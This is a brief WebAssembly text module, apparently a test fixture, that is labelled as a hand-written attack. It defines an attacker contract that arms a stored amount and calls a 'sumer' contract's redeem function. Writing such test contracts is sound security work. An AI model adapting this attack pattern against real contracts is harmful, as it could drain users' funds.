;; The attack by hand.

(module $attacker
  (import "contract:sumer" "redeem" (func $sumer.redeem (param i64)))
  ;; @storage
  (memory $memory (export "memory") 1)

  (func $arm (export "arm") (param $n i64)
    (call $store_i64 (i32.const 8) (local.get $n)))

  (func $main (export "main")
    (local $n i64)
    (if (i64.gt_s (call $load_i64 (i32.const 8)) (i64.const 0))
      (then
        (local.set $n (call $load_i64 (i32.const 8)))
        (call $store_i64 (i32.const 8) (i64.const 0))
        (call $sumer.redeem (local.get $n))))))
